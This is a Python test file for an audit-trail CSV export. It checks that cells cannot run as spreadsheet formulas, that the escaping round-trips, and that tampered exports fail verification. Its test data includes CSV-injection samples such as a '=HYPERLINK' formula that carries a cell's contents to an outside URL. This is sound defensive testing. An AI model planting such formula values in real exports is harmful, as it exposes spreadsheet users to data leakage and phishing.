"""The trail's CSV export is opened by people in a spreadsheet and re-verified from the file: its cells
cannot run as formulas (CSV injection), and the verifier undoes exactly that escaping, so the chain
still verifies from the exported file.

Old code: a login or value typed as `=HYPERLINK(...)` went into the export as is (a formula for Excel
or LibreOffice), a lone carriage return in a value split its row, and nothing read the export back."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import Engine
from sqlalchemy.orm import Session
from typer.testing import CliRunner

from parcours.cli.main import app
from parcours.controls import trail
from parcours.controls.models import Control
from parcours.csvsafe import FORMULA_STARTS, UnsafeCell, neutralise, restore
from parcours.db import session_scope

from .test_protocol import NOW, manager_account, one_control

# What users may type where the trail keeps it: a login (the actor, an account's object id), a
# command's `--by`, notes inside the details. (No NUL: PostgreSQL refuses it in text; the property
# test below covers it.)
TYPED = [
    "=1+1",
    "'quoted",
    "''twice",
    "'",
    '=HYPERLINK("https://exemple.invalid/?x="&A1;"Cliquer")',
    "@SUM(A1:A9)",
    "+33 6 12 34 56 78",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "ligne\r\nsuivante",
    "'=1+1",
]


def _fill(engine: Engine) -> None:
    with session_scope(engine) as s:
        for i, value in enumerate(TYPED):
            trail.append(
                s, actor=value, action="comment", object_type="control", object_id=value,
                details={"note": value, "n": i}, now=NOW + timedelta(seconds=i),
            )  # fmt: skip


def _cells(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body, newline="")))


def test_typed_formulas_are_neutralised_in_the_export(engine: Engine) -> None:
    _fill(engine)
    with Session(engine) as s:
        body = trail.export_csv(s)
    header, *rows = _cells(body)
    assert tuple(header) == trail.CSV_COLUMNS
    assert len(rows) == len(TYPED)  # a carriage return inside a value no longer splits its row
    actor = header.index("actor")
    assert rows[0][actor] == "'=1+1"
    assert rows[1][actor] == "''quoted"  # a leading quote is doubled: the escaping is unambiguous
    assert rows[4][actor].startswith("'=HYPERLINK(")
    for row in rows:
        for cell in row:
            assert cell[:1] not in FORMULA_STARTS, row
    # A note sits inside the details' JSON: that cell starts with "{" and keeps the note as typed.
    assert rows[0][header.index("details")] == '{"n":0,"note":"=1+1"}'


def test_the_export_round_trips_and_verifies_from_the_file(engine: Engine) -> None:
    _fill(engine)
    with Session(engine) as s:
        body = trail.export_csv(s)
        stored = [
            (e.seq, e.actor, e.object_id, e.details, e.hash)
            for e in trail.entries(s, limit=100)[::-1]
        ]
        head = trail.head(s)
    entries, problems = trail.read_csv(body)
    assert problems == []
    assert [(e.seq, e.actor, e.object_id, e.details, e.hash) for e in entries] == stored
    assert [e.actor for e in entries] == TYPED  # "=1+1" and "'quoted" come back as typed
    assert trail.verify_entries(entries, known_head=head) == []


def _tampered(body: str, row: int, column: str, value: str) -> str:
    header, *rows = _cells(body)
    rows[row][header.index(column)] = value
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows([header, *rows])
    return out.getvalue()


@pytest.mark.parametrize(
    ("row", "value", "reason"),
    [
        (0, "=1+1", "non neutralisée"),  # the quote removed: a formula again
        (1, "'quoted", "n'échappe rien"),  # one quote of two removed
        (2, "''''twice", "empreinte invalide"),  # a quote added: another value
        (3, "someone-else", "empreinte invalide"),
    ],
)
def test_an_edited_export_does_not_verify(
    engine: Engine, row: int, value: str, reason: str
) -> None:
    _fill(engine)
    with Session(engine) as s:
        body = trail.export_csv(s)
    entries, problems = trail.read_csv(_tampered(body, row, "actor", value))
    problems += trail.verify_entries(entries)
    assert problems and reason in " ".join(str(p) for p in problems)


def test_the_command_exports_and_verifies_the_file(engine: Engine, tmp_path: Path) -> None:
    _fill(engine)
    out = tmp_path / "journal.csv"
    runner = CliRunner()
    assert runner.invoke(app, ["trail", "export", str(out)]).exit_code == 0
    with session_scope(engine) as s:
        head = trail.head(s)  # the export's own entry, written after the file
        assert head is not None and head.seq == len(TYPED) + 1
    result = runner.invoke(app, ["trail", "verify", "--csv", str(out)])
    assert result.exit_code == 0, result.output
    assert f"intègre : {len(TYPED)} entrée(s)" in " ".join(result.output.split())
    # A known head beyond the file: the export is missing its end.
    result = runner.invoke(
        app,
        ["trail", "verify", "--csv", str(out), "--head", head.hash, "--head-seq", str(head.seq)],
    )
    assert result.exit_code == 1 and "tronquée" in result.output
    out.write_text(_tampered(out.read_text(encoding="utf-8"), 0, "actor", "=1+1"), newline="")
    result = runner.invoke(app, ["trail", "verify", "--csv", str(out)])
    assert result.exit_code == 1 and "non neutralisée" in result.output
    result = runner.invoke(app, ["trail", "verify", "--csv", str(tmp_path / "absent.csv")])
    assert result.exit_code == 2 and "lecture impossible" in result.output


def test_the_self_handled_list_is_neutralised_too(engine: Engine, tmp_path: Path) -> None:
    login = '=HYPERLINK("https://exemple.invalid";"x")'
    with Session(engine) as s:
        _, cid = one_control(s)
        manager_account(s, login, agent_id="AG1")  # the manager who is the agent AG1
        control = s.get(Control, cid)
        assert control is not None
        control.state, control.outcome, control.closed_at = "closed", "false_positive", NOW
        trail.append(
            s, actor=login, action="status", object_type="control", object_id=str(cid),
            details={"transition": "close_false_positive"}, now=NOW,
        )  # fmt: skip
        s.commit()
    out = tmp_path / "revue.csv"
    result = CliRunner().invoke(app, ["controls", "self-handled", "--csv", str(out)])
    assert result.exit_code == 1, result.output
    with out.open(encoding="utf-8", newline="") as f:
        (row,) = csv.DictReader(f)
    assert row["login"] == "'" + login and restore(row["login"]) == login


@given(st.text())
def test_restore_undoes_neutralise_exactly(value: str) -> None:
    cell = neutralise(value)
    assert isinstance(cell, str) and cell[:1] not in FORMULA_STARTS
    assert restore(cell) == value


@pytest.mark.parametrize("cell", ["=1+1", "@x", "'", "'abc", "\tx"])
def test_restore_refuses_what_neutralise_cannot_write(cell: str) -> None:
    with pytest.raises(UnsafeCell):
        restore(cell)


def test_only_texts_are_neutralised() -> None:
    assert neutralise(-3) == -3 and neutralise(None) is None and neutralise("abc") == "abc"
